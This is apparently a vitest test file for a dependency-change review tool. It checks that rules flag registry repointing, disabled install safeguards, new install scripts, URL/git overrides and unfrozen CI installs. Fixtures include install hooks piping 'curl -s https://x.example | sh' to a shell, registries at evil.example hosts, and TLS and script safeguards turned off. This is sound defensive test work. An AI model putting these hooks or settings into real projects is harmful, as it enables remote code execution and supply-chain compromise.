import { afterAll, describe, expect, it } from 'vitest';
import type { ReviewResult } from '../../../src/app/review/index.js';
import { makeRepo, type Tree, reviewHead, reviewWorkTree } from './repo.js';
import { manifest } from './npm-lock.js';
import { berryLock } from '../../helpers/lockfile-text.js';

/**
 * What a change makes the next install on CI do besides the lockfile: package-manager configuration pointing at
 * another registry (CPU025) or turning a safeguard off (CPU026), the project's own install scripts (CPU027),
 * overrides to URL/git/alias specs (CPU028), a workflow that stops installing from the lockfile (CPU029), and a
 * touched input that does not parse (CPU030). One finding per file and rule, both sides in the evidence.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

const WATCH = /^CPU0(2[5-9]|30)$/;
const pkg = (extra: Record<string, unknown>) =>
  JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { a: '^1.0.0' }, ...extra }, null, 2) + '\n';
/** pnpm 9+'s lockfile for a root that depends on the folder vendor/z (`file:vendor/z`), installed as a directory. */
const PNPM_DIRECTORY_LOCK = [
  "lockfileVersion: '9.0'",
  '',
  'importers:',
  '',
  '  .:',
  '    dependencies:',
  '      z:',
  '        specifier: file:vendor/z',
  '        version: file:vendor/z',
  '',
  'packages:',
  '',
  '  z@file:vendor/z:',
  '    resolution: {directory: vendor/z, type: directory}',
  '',
  'snapshots:',
  '',
  '  z@file:vendor/z: {}',
  '',
].join('\n');
/**
 * yarn 4's lockfile for a root that depends on the folder vendor/z by `protocol` (`file:`, `portal:`, `link:`), as
 * FileResolver / PortalResolver / LinkResolver bind it to the declaring workspace (`::locator=app@workspace:.`).
 */
const berryFolderLock = (protocol: string, linkType: 'hard' | 'soft') =>
  berryLock({ z: `${protocol}vendor/z` }, [
    `"z@${protocol}vendor/z::locator=app%40workspace%3A.":`,
    '  version: 1.0.0',
    // A folder's resolution also carries its content hash (fileUtils `makeLocator`: `#path::hash=…&locator=…`).
    protocol === 'file:'
      ? '  resolution: "z@file:vendor/z#vendor/z::hash=2c5e5f&locator=app%40workspace%3A."'
      : `  resolution: "z@${protocol}vendor/z::locator=app%40workspace%3A."`,
    '  languageName: node',
    `  linkType: ${linkType}`,
    '',
  ]);
const workflow = (install: string) =>
  [
    'name: ci',
    'on: [push]',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5',
    `      - run: ${install}`,
    '      - run: npm test',
    '',
  ].join('\n');

/** A yarn 1 project: its lockfile and manifest. */
const YARN_V1: Tree = {
  'package.json': pkg({}),
  'yarn.lock':
    '# yarn lockfile v1\n\n\na@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#0000000000000000000000000000000000000000"\n  integrity sha512-AAAA\n',
};

interface Case {
  name: string;
  base: Tree;
  head: Tree;
  /** `rule@path:line` of the findings among CPU025–CPU030. */
  want: string[];
  /** Evidence `before` / `after` of the first finding, when given. */
  sides?: [string, string];
  workTree?: true;
  /** The level of every finding, when not error; a warning or a note passes the `any` gate. */
  level?: 'warning' | 'note';
  /** Text the first finding's message holds, when given. */
  says?: string;
}

const cases: Case[] = [
  {
    name: '.npmrc registry repointed → CPU025 with both registries',
    base: { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
    head: { '.npmrc': '# mirror\nregistry=https://npm.evil.example/\n' },
    want: ['CPU025@.npmrc:2'],
    sides: ['registry=https://registry.npmjs.org/', 'registry=https://npm.evil.example/'],
  },
  {
    name: '.npmrc repointed to a registry the policy allows → CPU025 as a warning (the any gate passes)',
    base: { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
    head: { '.npmrc': 'registry=https://registry.yarnpkg.com/\n' },
    want: ['CPU025@.npmrc:1'],
    level: 'warning',
  },
  {
    name: 'a new .npmrc with a scope registry in a workspace → CPU025',
    base: { 'packages/web/package.json': manifest({}) },
    head: { 'packages/web/.npmrc': '@acme:registry=https://npm.evil.example/\n' },
    want: ['CPU025@packages/web/.npmrc:1'],
  },
  {
    name: '.npmrc drops ignore-scripts and turns strict-ssl off → one CPU026 naming both',
    base: { '.npmrc': 'ignore-scripts=true\n' },
    head: { '.npmrc': 'strict-ssl=false\n' },
    want: ['CPU026@.npmrc:1'],
    sides: ['ignore-scripts=true strict-ssl=(unset)', 'ignore-scripts=(unset) strict-ssl=false'],
  },
  {
    name: '.npmrc brings its own CA (ca[] lines) → CPU026',
    base: { '.npmrc': 'save-exact=true\n' },
    head: { '.npmrc': 'save-exact=true\nca[]="-----BEGIN CERTIFICATE-----"\n' },
    want: ['CPU026@.npmrc:2'],
  },
  {
    name: '.npmrc names a script shell → CPU026',
    base: { '.npmrc': 'save-exact=true\n' },
    head: { '.npmrc': 'save-exact=true\nscript-shell=./tools/sh\n' },
    want: ['CPU026@.npmrc:2'],
  },
  {
    name: '.npmrc edited without touching a watched setting → nothing',
    base: { '.npmrc': 'registry=https://registry.npmjs.org/\nsave-exact=true\n' },
    head: { '.npmrc': '; pinned\nregistry=https://registry.npmjs.org/\nsave-exact=false\n' },
    want: [],
  },
  {
    name: '.yarnrc.yml repoints a scope and ignores checksums → CPU025 and CPU026',
    base: { '.yarnrc.yml': 'nodeLinker: node-modules\n' },
    head: {
      '.yarnrc.yml':
        'nodeLinker: node-modules\nnpmScopes:\n  acme:\n    npmRegistryServer: "https://npm.evil.example"\nchecksumBehavior: ignore\n',
    },
    want: ['CPU025@.yarnrc.yml:4', 'CPU026@.yarnrc.yml:5'],
  },
  {
    name: 'pnpm-workspace.yaml (which holds .npmrc settings in camelCase) drops TLS and store checks → one CPU026',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
    head: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\nstrictSsl: false\nverifyStoreIntegrity: false\n' },
    want: ['CPU026@pnpm-workspace.yaml:3'],
    sides: ['strictSsl=(unset) verifyStoreIntegrity=(unset)', 'strictSsl=false verifyStoreIntegrity=false'],
  },
  {
    name: 'pnpm-workspace.yaml repointed to a registry the policy allows → CPU025 as a warning',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
    head: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\nregistry: https://registry.yarnpkg.com/\n' },
    want: ['CPU025@pnpm-workspace.yaml:3'],
    level: 'warning',
  },
  {
    name: 'pnpm-workspace.yaml gains a config dependency (installed first, its pnpmfile loaded) → CPU026',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
    head: {
      'pnpm-workspace.yaml': 'packages:\n  - packages/*\nconfigDependencies:\n  pnpm-plugin-x: "1.0.0+sha512-AAAA"\n',
    },
    want: ['CPU026@pnpm-workspace.yaml:4'],
  },
  {
    name: 'bunfig.toml gains an [install] registry → CPU025',
    base: { 'bunfig.toml': '[install]\nexact = true\n' },
    head: { 'bunfig.toml': '[install]\nexact = true\nregistry = "https://npm.evil.example/"\n' },
    want: ['CPU025@bunfig.toml:3'],
  },
  {
    // configparser.RawConfigParser, which pip reads pip.conf with, takes `name: value` as `name = value`.
    name: 'pip.conf gains `cert: ./ca.pem` (a colon, as configparser allows) → CPU026',
    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
    head: { 'pip.conf': '[global]\ntimeout = 60\ncert: ./ca.pem\n' },
    want: ['CPU026@pip.conf:3'],
  },
  {
    // pip's `_normalize_name` reads `no_binary` as `no-binary`.
    name: 'pip.conf gains `no_binary = :all:` → CPU026 (every package built from its sdist)',
    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
    head: { 'pip.conf': '[global]\ntimeout = 60\nno_binary = :all:\n' },
    want: ['CPU026@pip.conf:3'],
  },
  {
    // Reported at the `_` spelling's own line, in its own section: not at a `-` spelling another section keeps.
    name: 'pip.conf gains `extra_index_url` under [install] → CPU025 at that line',
    base: { 'pip.conf': '[download]\nextra-index-url = https://pypi.org/simple\n' },
    head: {
      'pip.conf':
        '[download]\nextra-index-url = https://pypi.org/simple\n[install]\nextra_index_url = https://pypi.evil.example/simple\n',
    },
    want: ['CPU025@pip.conf:4'],
  },
  {
    // An indented line continues the value (RawConfigParser); pip splits the list on white space.
    name: 'pip.conf swaps the second URL of a multi-line extra-index-url → CPU025 naming both sides',
    base: {
      'pip.conf':
        '[global]\nextra-index-url =\n    https://download.pytorch.org/whl/cpu\n    https://pypi.org/simple\n',
    },
    head: {
      'pip.conf':
        '[global]\nextra-index-url =\n    https://download.pytorch.org/whl/cpu\n    https://pypi.evil.example/simple\n',
    },
    want: ['CPU025@pip.conf:2'],
    sides: [
      'global.extra-index-url=https://download.pytorch.org/whl/cpu https://pypi.org/simple',
      'global.extra-index-url=https://download.pytorch.org/whl/cpu https://pypi.evil.example/simple',
    ],
  },
  {
    // RawConfigParser raises MissingSectionHeaderError, and pip refuses the file (ConfigurationFileCouldNotBeLoaded).
    name: 'pip.conf with a setting before any section → CPU030 (pip cannot load it either)',
    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
    head: { 'pip.conf': 'index-url = https://pypi.evil.example/simple\n[global]\ntimeout = 60\n' },
    want: ['CPU030@pip.conf:1'],
  },
  {
    name: 'pip.conf adds an extra index and a trusted host → CPU025 and CPU026',
    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
    head: {
      'pip.conf':
        '[global]\ntimeout = 60\nextra-index-url = https://pypi.evil.example/simple\ntrusted-host = pypi.evil.example\n',
    },
    want: ['CPU025@pip.conf:3', 'CPU026@pip.conf:4'],
  },
  {
    // configuration.py `_normalize_name` and cmdoptions' `--pypi-url` alias of `--index-url`: the head scan's names.
    name: 'pip.conf points pypi-url elsewhere → CPU025',
    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
    head: { 'pip.conf': '[global]\ntimeout = 60\npypi_url = https://pypi.evil.example/simple\n' },
    want: ['CPU025@pip.conf:3'],
  },
  {
    // pip's `get_environ_vars` / `_normalize_name`: every spelling of the option's name after a case-sensitive `PIP_`.
    name: 'a workflow sets PIP_PYPI_URL, PIP___TRUSTED_HOST and pip config set global.index_url → CPU025 and CPU026',
    base: { '.github/workflows/ci.yml': workflow('pip install -r requirements.txt') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'PIP_PYPI_URL=https://pypi.evil.example/simple PIP___TRUSTED_HOST=pypi.evil.example pip install -r requirements.txt && pip config set global.index_url https://pypi.evil.example/simple',
      ),
    },
    want: ['CPU025@.github/workflows/ci.yml:8', 'CPU026@.github/workflows/ci.yml:8'],
  },
  {
    // The same settings spelled another way, and a lower-case `pip_` prefix pip does not read.
    name: 'PIP_INDEX_URL spelled PIP_Index_Url, pip_trusted_host → nothing',
    base: {
      '.github/workflows/ci.yml': workflow('PIP_INDEX_URL=https://pypi.org/simple pip install -r requirements.txt'),
    },
    head: {
      '.github/workflows/ci.yml': workflow(
        'PIP_Index_Url=https://pypi.org/simple pip_trusted_host=pypi.org pip install -r requirements.txt',
      ),
    },
    want: [],
  },
  {
    // configuration.py `_normalize_name`: `index_url` and `index-url` are one key, `pypi-url` its alias.
    name: 'pip config set global.index_url respelled global.index-url → nothing',
    base: {
      '.github/workflows/ci.yml': workflow('pip config set global.index_url https://pypi.org/simple'),
    },
    head: {
      '.github/workflows/ci.yml': workflow('pip config set global.index-url https://pypi.org/simple'),
    },
    want: [],
  },
  {
    name: 'pyproject [tool.uv] gains an index → CPU025; uv.toml allows an insecure host → CPU026',
    base: { 'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n', 'uv.toml': 'native-tls = true\n' },
    head: {
      'pyproject.toml':
        '[project]\nname = "app"\nversion = "1"\n\n[[tool.uv.index]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple"\n',
      'uv.toml': 'native-tls = true\nallow-insecure-host = ["pypi.evil.example"]\n',
    },
    want: ['CPU025@pyproject.toml:7', 'CPU026@uv.toml:2'],
  },
  {
    // uv's `extra-index-url` is a list (`Vec<IndexUrl>`): its entries flatten to `extra-index-url.0`, ….
    name: 'pyproject [tool.uv] gains an extra-index-url, uv.toml a second one → CPU025 each',
    base: {
      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n',
      'uv.toml': 'extra-index-url = ["https://download.pytorch.org/whl/cpu"]\n',
    },
    head: {
      'pyproject.toml':
        '[project]\nname = "app"\nversion = "1"\n\n[tool.uv]\nextra-index-url = ["https://pypi.evil.example/simple"]\n',
      'uv.toml': 'extra-index-url = ["https://download.pytorch.org/whl/cpu", "https://pypi.evil.example/simple"]\n',
    },
    want: ['CPU025@pyproject.toml:6', 'CPU025@uv.toml:1'],
  },
  {
    // `uv pip install` / `uv pip sync` read `[pip]` over the top-level settings (uv-settings PipOptions).
    name: 'uv.toml [pip] gains an index-url → CPU025; [tool.uv.pip] drops require-hashes and allows sdists → CPU026',
    base: {
      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n\n[tool.uv.pip]\nrequire-hashes = true\n',
      'uv.toml': '[pip]\nsystem = true\n',
    },
    head: {
      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n\n[tool.uv.pip]\nno-binary = [":all:"]\n',
      'uv.toml': '[pip]\nsystem = true\nindex-url = "https://pypi.evil.example/simple"\n',
    },
    want: ['CPU025@uv.toml:3', 'CPU026@pyproject.toml:6'],
  },
  {
    name: 'the root package.json gains a postinstall, a workspace a prepare → one CPU027 each',
    base: {
      'package.json': pkg({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
      'packages/lib/package.json': pkg({}),
    },
    head: {
      'package.json': pkg({
        workspaces: ['packages/*'],
        scripts: { test: 'vitest', postinstall: "node -e \"require('https').get('x')\"" },
      }),
      'packages/lib/package.json': pkg({ scripts: { prepare: 'sh ./setup.sh' } }),
    },
    want: ['CPU027@package.json:12', 'CPU027@packages/lib/package.json:8'],
  },
  {
    name: 'the root gains prepublish, preunpack and dependencies (npm install and ci run them) → one CPU027 naming them',
    base: {
      'package.json': pkg({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
      'packages/lib/package.json': pkg({}),
    },
    head: {
      'package.json': pkg({
        workspaces: ['packages/*'],
        scripts: { test: 'vitest', preunpack: 'sh y.sh', prepublish: 'node x.js', dependencies: 'node z.js' },
      }),
      // npm runs these for the package it was started in only, never for a workspace: nothing here.
      'packages/lib/package.json': pkg({ scripts: { prepublish: 'node x.js', dependencies: 'node z.js' } }),
    },
    want: ['CPU027@package.json:12'],
    sides: [
      'preunpack=(none)\nprepublish=(none)\ndependencies=(none)',
      'preunpack=sh y.sh\nprepublish=node x.js\ndependencies=node z.js',
    ],
  },
  {
    name: 'a pnpm workspace package and a folder with its own lockfile gain install scripts → CPU027 each',
    base: {
      'pnpm-workspace.yaml': "packages:\n  - 'apps/**'\n  - '!apps/skip'\n",
      'apps/web/package.json': pkg({}),
      'tools/gen/package.json': pkg({}),
      'tools/gen/package-lock.json': '{"lockfileVersion": 3, "packages": {}}\n',
    },
    head: {
      'apps/web/package.json': pkg({ scripts: { preinstall: 'curl -s https://x.example | sh' } }),
      'tools/gen/package.json': pkg({ scripts: { postinstall: 'node fetch.js' } }),
    },
    want: ['CPU027@apps/web/package.json:8', 'CPU027@tools/gen/package.json:8'],
  },
  {
    name: 'a folder package-lock.json links as a file: dependency changes its postinstall → CPU027 (npm ci runs it)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'package-lock.json':
        JSON.stringify(
          {
            name: 'app',
            version: '1.0.0',
            lockfileVersion: 3,
            requires: true,
            packages: {
              '': { name: 'app', version: '1.0.0', dependencies: { z: 'file:vendor/z' } },
              'node_modules/z': { resolved: 'vendor/z', link: true },
              'vendor/z': { name: 'z', version: '1.0.0' },
            },
          },
          null,
          2,
        ) + '\n',
      'vendor/z/package.json': pkg({ scripts: { postinstall: 'node build.js' } }),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
    says: 'runs the lifecycle scripts of this workspace or linked folder',
  },
  {
    // arborist's rebuild queues a link's prepare with its install scripts.
    name: 'the same npm-linked folder gains a prepare → CPU027',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'package-lock.json':
        JSON.stringify({
          name: 'app',
          version: '1.0.0',
          lockfileVersion: 3,
          packages: {
            '': { name: 'app', version: '1.0.0', dependencies: { z: 'file:vendor/z' } },
            'node_modules/z': { resolved: 'vendor/z', link: true },
            'vendor/z': { name: 'z', version: '1.0.0' },
          },
        }) + '\n',
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { prepare: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
  },
  {
    // npm ≥ 7 migrates a v1 `file:` folder entry to a link to the folder (arborist Shrinkwrap `#metaFromLock`).
    name: 'a folder a package-lock.json v1 links as a file: dependency gains a postinstall → CPU027',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'package-lock.json':
        JSON.stringify({
          name: 'app',
          version: '1.0.0',
          lockfileVersion: 1,
          requires: true,
          dependencies: { z: { version: 'file:vendor/z' } },
        }) + '\n',
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
  },
  {
    name: 'a folder pnpm-lock.yaml installs as a directory dependency changes its postinstall → CPU027 (pnpm builds it)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
    // Not "the project's own install scripts": pnpm builds the folder as a dependency.
    says: 'installs this folder as a dependency and runs its preinstall, install and postinstall (not prepare)',
  },
  {
    // pnpm's runPostinstallHooks runs preinstall, install and postinstall for a dependency: never its prepare.
    name: 'the same folder gains a prepare → nothing (pnpm does not run it for a dependency)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { prepare: 'curl -s https://x.example | sh' } }) },
    want: [],
  },
  {
    // buildModules asks allowBuild of a directory dependency as of any other: pnpm 10 skips its build by default.
    name: 'the same under pnpm 10, whose settings do not name it → CPU027 as a note (pnpm installs it unbuilt)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' }, packageManager: 'pnpm@10.4.1' }),
      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
    level: 'note',
  },
  {
    name: 'the same under pnpm 10 with onlyBuiltDependencies naming it → CPU027 (pnpm builds it)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' }, packageManager: 'pnpm@10.4.1' }),
      'pnpm-workspace.yaml': 'onlyBuiltDependencies:\n  - z\n',
      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
  },
  {
    name: 'a yarn 1 file: folder changes its preinstall → CPU027 (yarn copies and builds it on every install)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'yarn.lock': '# yarn lockfile v1\n\n\n"z@file:vendor/z":\n  version "1.0.0"\n',
      'vendor/z/package.json': pkg({}),
    },
    head: { 'vendor/z/package.json': pkg({ scripts: { preinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
  },
  {
    name: 'a yarn 1 workspace member declares file:../x; that folder changes its preinstall → CPU027 (yarn builds it)',
    base: {
      'package.json': pkg({ private: true, dependencies: {}, workspaces: ['packages/a'] }),
      'packages/a/package.json': pkg({ name: 'a', dependencies: { z: 'file:../x' } }),
      // As the member writes it: yarn 1.22.22 reads `file:../x` from packages/a and runs packages/x's preinstall.
      'yarn.lock': '# yarn lockfile v1\n\n\n"z@file:../x":\n  version "1.0.0"\n',
      'packages/x/package.json': pkg({ name: 'z' }),
    },
    head: { 'packages/x/package.json': pkg({ name: 'z', scripts: { preinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@packages/x/package.json:8'],
  },
  {
    // FileResolver resolves a folder `linkType: HARD` and FileFetcher packs it afresh each install: yarn 4 builds it.
    name: 'a yarn 4 file: folder changes its postinstall → CPU027 (yarn packs and builds it on every install)',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      'yarn.lock': berryFolderLock('file:', 'hard'),
      'vendor/z/package.json': pkg({ name: 'z' }),
    },
    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
  },
  {
    name: 'the same yarn 4 file: folder under enableScripts: false → CPU027 as a note naming yarn setting',
    base: {
      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
      '.yarnrc.yml': 'enableScripts: false\n',
      'yarn.lock': berryFolderLock('file:', 'hard'),
      'vendor/z/package.json': pkg({ name: 'z' }),
    },
    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
    level: 'note',
    says: "yarn installs this folder as the dependency z but does not run its install scripts (yarn's enableScripts: false)",
  },
  {
    // PortalResolver resolves `linkType: SOFT`; extractBuildRequest ignores a soft link's build scripts.
    name: 'a yarn 4 portal: folder changes its postinstall → CPU027 as a note only (soft links are never built)',
    base: {
      'package.json': pkg({ dependencies: { z: 'portal:vendor/z' } }),
      'yarn.lock': berryFolderLock('portal:', 'soft'),
      'vendor/z/package.json': pkg({ name: 'z' }),
    },
    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
    want: ['CPU027@vendor/z/package.json:8'],
    level: 'note',
  },
  {
    name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
    base: { 'package.json': pkg({}), 'test/fixtures/app/package.json': pkg({}), 'apps/skip/package.json': pkg({}) },
    head: {
      'test/fixtures/app/package.json': pkg({ scripts: { postinstall: 'node evil.js' } }),
    },
    want: ['CPU027@test/fixtures/app/package.json:8'],
    level: 'note',
  },
  {
    name: 'a non-install script changed → nothing',
    base: { 'package.json': pkg({ scripts: { test: 'vitest' } }) },
    head: { 'package.json': pkg({ scripts: { test: 'vitest run', build: 'tsc' } }) },
    want: [],
  },
  {
    name: 'overrides to a tarball URL, a git repo and another package → one CPU028 naming all three',
    base: { 'package.json': pkg({ overrides: { semver: '7.6.0' } }) },
    head: {
      'package.json': pkg({
        overrides: { semver: '7.6.0', foo: 'https://evil.example/foo-1.0.0.tgz' },
        resolutions: { '**/bar': 'github:evil/bar' },
        pnpm: { overrides: { baz: 'npm:evil@1.0.0' } },
      }),
    },
    want: ['CPU028@package.json:9'],
  },
  {
    name: 'an override to a registry version, or to an alias of the same package → nothing',
    base: { 'package.json': pkg({}) },
    head: { 'package.json': pkg({ overrides: { semver: '7.6.2', qs: 'npm:qs@6.13.0' } }) },
    want: [],
  },
  {
    name: 'pnpm-workspace.yaml overrides a package to git → CPU028',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
    head: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\noverrides:\n  lodash: github:evil/lodash\n' },
    want: ['CPU028@pnpm-workspace.yaml:4'],
  },
  {
    name: 'a workflow moves from npm ci to npm install → CPU029 with both commands',
    base: { '.github/workflows/ci.yml': workflow('npm ci') },
    head: { '.github/workflows/ci.yml': workflow('npm install') },
    want: ['CPU029@.github/workflows/ci.yml:8'],
    sides: ['npm ci', 'npm install'],
  },
  {
    name: 'yarn 1: a workflow drops --frozen-lockfile (yarn 1 then rewrites the lockfile) → CPU029',
    base: { ...YARN_V1, '.github/workflows/ci.yml': workflow('yarn install --frozen-lockfile') },
    head: { '.github/workflows/ci.yml': workflow('yarn && yarn build') },
    want: ['CPU029@.github/workflows/ci.yml:8'],
    sides: ['yarn install --frozen-lockfile', 'yarn'],
  },
  {
    // The shell runs each command of `a && b` on its own: the unlocked install is the base's, only `echo` changed.
    name: 'an unlocked install kept while another command of its line changes → nothing',
    base: { '.github/workflows/ci.yml': workflow('echo one && npm install') },
    head: { '.github/workflows/ci.yml': workflow('echo two && npm install') },
    want: [],
  },
  {
    name: 'yarn 1: a frozen install kept, and another command that runs yarn scripts only → nothing',
    base: { ...YARN_V1, '.github/workflows/ci.yml': workflow('yarn install --frozen-lockfile') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'yarn install --frozen-lockfile --prefer-offline\n      - run: npm ci && yarn build',
      ),
    },
    want: [],
  },
  {
    name: 'yarn 1 frozen for every install by .yarnrc (rc.js getRcArgs): the flag dropped → nothing',
    base: {
      ...YARN_V1,
      '.yarnrc': '--install.frozen-lockfile true\n',
      '.github/workflows/ci.yml': workflow('yarn install --frozen-lockfile'),
    },
    head: { '.github/workflows/ci.yml': workflow('yarn install') },
    want: [],
  },
  {
    name: 'yarn 2+ (immutable on CI by default): the flag dropped → nothing',
    base: {
      'package.json': pkg({}),
      'yarn.lock': '__metadata:\n  version: 8\n  cacheKey: 10c0\n',
      '.github/workflows/ci.yml': workflow('yarn install --immutable'),
    },
    head: { '.github/workflows/ci.yml': workflow('yarn install') },
    want: [],
  },
  {
    name: 'a workflow turns checksums, the frozen lockfile and TLS off through env → one CPU026 naming them',
    base: { '.github/workflows/ci.yml': workflow('yarn install') },
    head: {
      '.github/workflows/ci.yml': workflow('yarn install').replace(
        '    steps:',
        '    env:\n      YARN_CHECKSUM_BEHAVIOR: update\n      YARN_ENABLE_IMMUTABLE_INSTALLS: "false"\n      npm_config_strict_ssl: false\n    steps:',
      ),
    },
    want: ['CPU026@.github/workflows/ci.yml:7'],
  },
  {
    name: 'a workflow lets npm run the install scripts allowScripts holds back, through env → CPU026',
    base: { '.github/workflows/ci.yml': workflow('npm ci') },
    head: {
      '.github/workflows/ci.yml': workflow('npm ci').replace(
        '    steps:',
        '    env:\n      npm_config_dangerously_allow_all_scripts: true\n    steps:',
      ),
    },
    want: ['CPU026@.github/workflows/ci.yml:7'],
  },
  {
    name: 'a workflow passes --dangerously-allow-all-scripts (npm) or --dangerously-allow-all-builds (pnpm) → CPU026',
    base: { '.github/workflows/ci.yml': workflow('npm ci') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'npm ci --dangerously-allow-all-scripts\n      - run: pnpm install --frozen-lockfile --dangerously-allow-all-builds',
      ),
    },
    want: ['CPU026@.github/workflows/ci.yml:8'],
  },
  {
    name: 'a workflow drops --ignore-scripts from npm ci, or turns it false for pnpm → CPU026 naming both commands',
    base: {
      '.github/workflows/ci.yml': workflow(
        'npm ci --ignore-scripts\n      - run: pnpm install --frozen-lockfile --ignore-scripts',
      ),
    },
    head: {
      '.github/workflows/ci.yml': workflow(
        'npm ci\n      - run: pnpm install --frozen-lockfile --ignore-scripts=false',
      ),
    },
    want: ['CPU026@.github/workflows/ci.yml:8'],
  },
  {
    name: 'yarn 2+ drops --mode=skip-build → CPU026',
    base: { '.github/workflows/ci.yml': workflow('yarn install --immutable --mode=skip-build') },
    head: { '.github/workflows/ci.yml': workflow('yarn install --immutable') },
    want: ['CPU026@.github/workflows/ci.yml:8'],
  },
  {
    name: 'a workflow keeps --ignore-scripts (moved, or as =true) and rebuilds by hand → nothing',
    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
    head: {
      '.github/workflows/ci.yml': workflow('npm ci --no-audit --ignore-scripts=true && npm rebuild esbuild'),
    },
    want: [],
  },
  {
    name: 'a workflow keeps --ignore-scripts on npm ci but rebuilds every package after it → CPU026',
    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
    head: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts && npm rebuild --foreground-scripts') },
    want: ['CPU026@.github/workflows/ci.yml:8'],
  },
  {
    name: 'the same with pnpm rebuild in a step of its own → CPU026',
    base: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile --ignore-scripts') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'pnpm install --frozen-lockfile --ignore-scripts\n      - run: pnpm rebuild',
      ),
    },
    want: ['CPU026@.github/workflows/ci.yml:9'],
  },
  {
    name: 'a Dockerfile RUN continued by \\ drops --ignore-scripts from its second line → CPU026 at the RUN',
    base: { Dockerfile: 'FROM node:20\nRUN npm ci \\\n    --ignore-scripts\n' },
    head: { Dockerfile: 'FROM node:20\nRUN npm ci \\\n    --no-audit\n' },
    want: ['CPU026@Dockerfile:2'],
  },
  {
    name: 'a workflow install continued by \\ that keeps --ignore-scripts → nothing',
    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
    head: { '.github/workflows/ci.yml': workflow('|\n          npm ci --no-audit \\\n            --ignore-scripts') },
    want: [],
  },
  {
    name: 'pnpm install --frozen-lockfile=false (nopt reads it as off) → CPU029',
    base: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile') },
    head: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile=false') },
    want: ['CPU029@.github/workflows/ci.yml:8'],
  },
  {
